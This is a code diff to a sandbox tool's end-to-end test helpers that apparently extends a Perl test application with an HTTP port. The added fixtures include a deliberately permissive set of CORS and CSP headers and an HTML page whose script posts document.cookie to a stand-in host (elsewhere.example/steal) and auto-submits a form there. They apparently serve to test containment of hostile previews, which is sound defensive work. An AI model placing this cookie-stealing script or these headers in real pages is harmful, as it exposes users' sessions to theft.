@@ -185,17 +185,50 @@ def free_outside_subnet(used: list[ipaddress.IPv4Network], token: str) -> ipaddr
     return None
 
 
-#: The agent's application in the ports tests: a TCP server answering HTTP and a UDP echo, in perl
-#: (perl-base is in every Debian image, so the kits need no package for it). It prints one line per
-#: connection or datagram, with the peer's address, so a test sees who reached it.
-APP_TCP, APP_UDP = 8000, 8053
+#: The agent's application in the ports tests: two TCP servers answering HTTP (APP_TCP, forwarded byte for
+#: byte, and APP_HTTP, which the net kit marks `http: true`) and a UDP echo, in perl (perl-base is in every
+#: Debian image, so the kits need no package for it). It prints one line per connection or datagram, with
+#: the peer's address, so a test sees who reached it. Its answers carry APP_POLICY_HEADERS: what a hostile
+#: preview says to let its page reach other origins.
+APP_TCP, APP_UDP, APP_HTTP = 8000, 8053, 8001
+APP_POLICY_HEADERS = (
+    ("Content-Security-Policy", "default-src * 'unsafe-inline'; connect-src *; form-action *"),
+    ("Content-Security-Policy-Report-Only", "default-src *"),
+    ("Access-Control-Allow-Origin", "*"),
+    ("Access-Control-Allow-Credentials", "true"),
+    ("Access-Control-Allow-Private-Network", "true"),
+    ("Referrer-Policy", "unsafe-url"),
+    ("Reporting-Endpoints", 'default="http://elsewhere.example/reports"'),
+    ("Link", "<http://elsewhere.example/>; rel=preconnect"),
+    ("X-Frame-Options", "ALLOWALL"),
+    ("X-App", "agent-app"),
+)
+#: The page: it posts what it holds to another origin as soon as it loads.
+APP_PAGE = (
+    "<!doctype html><form id=f method=post action=http://elsewhere.example/form></form>"
+    "<script>fetch('http://elsewhere.example/steal',{method:'POST',body:document.cookie});f.submit()</script>"
+)
+_APP_HEADER_LINES = ", ".join(f"q[{name}: {value}]" for name, value in APP_POLICY_HEADERS)
 APP_PROGRAM = rf"""
 use strict; use IO::Socket::INET; use Socket qw(sockaddr_in inet_ntoa);
 $| = 1;
+my @headers = ({_APP_HEADER_LINES});
+my $page = q[{APP_PAGE}];
 my $tcp = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => {APP_TCP}, Listen => 16, ReuseAddr => 1)
   or die "tcp: $!";
+my $http = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => {APP_HTTP}, Listen => 16, ReuseAddr => 1)
+  or die "http: $!";
 my $udp = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => {APP_UDP}, Proto => "udp") or die "udp: $!";
 print "app listening\n";
+sub answer {{
+  my ($conn, $kind) = @_;
+  print "app $kind from ", $conn->peerhost, "\n";
+  my $request = <$conn>;
+  while (defined(my $line = <$conn>)) {{ last if $line =~ /^\r?\n$/; }}
+  print $conn "HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n", join("\r\n", @headers), "\r\n\r\n",
+    "server=agent-app peer=", $conn->peerhost, "\n", $page, "\n";
+  close $conn;
+}}
 if (fork() == 0) {{
   while (1) {{
     my $peer = $udp->recv(my $data, 512) or next;
@@ -204,12 +237,10 @@ if (fork() == 0) {{
     $udp->send("udp-app:$data", 0, $peer);
   }}
 }}
-while (my $conn = $tcp->accept) {{
-  print "app tcp from ", $conn->peerhost, "\n";
-  my $request = <$conn>;
-  print $conn "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nserver=agent-app peer=", $conn->peerhost, "\n";
-  close $conn;
+if (fork() == 0) {{
+  while (my $conn = $http->accept) {{ answer($conn, "http"); }}
 }}
+while (my $conn = $tcp->accept) {{ answer($conn, "tcp"); }}
 """
 #: The second host address the net kit publishes the app's TCP port on (any 127/8 address is the host's).
 SECOND_HOST_IP = "127.0.0.2"
@@ -223,12 +254,14 @@ class PublishedPorts:
     tcp: int
     tcp_second: int
     udp: int
+    http: int  # the app's APP_HTTP port, `http: true`, on 127.0.0.1
 
     def kit_yaml(self) -> str:
         return (
             f"ports:\n  - {{container: {APP_TCP}, host: {self.tcp}}}\n"
             f"  - {{container: {APP_TCP}, host: {self.tcp_second}, host_ip: {SECOND_HOST_IP}}}\n"
             f"  - {{container: {APP_UDP}, host: {self.udp}, protocol: udp}}\n"
+            f"  - {{container: {APP_HTTP}, host: {self.http}, http: true}}\n"
         )
 
 
@@ -355,9 +388,11 @@ resources:
 """
 
 
-def app_kit(name: str, *, egress: str, host_port: int) -> str:
-    """A kit whose agent is the application, its TCP port published on 127.0.0.1:``host_port``; no package."""
-    return f"""apiVersion: sandkit/v1
+def app_kit(name: str, *, egress: str, host_port: int, packages: tuple[str, ...] = ()) -> str:
+    """A kit whose agent is the application, its TCP port published on 127.0.0.1:``host_port``; ``packages``
+    from Debian."""
+    image = f"image:\n  packages: {{apt: [{', '.join(packages)}]}}\n" if packages else ""
+    return f"""{image}apiVersion: sandkit/v1
 kind: Kit
 name: {name}
 description: end-to-end kit whose agent serves an application
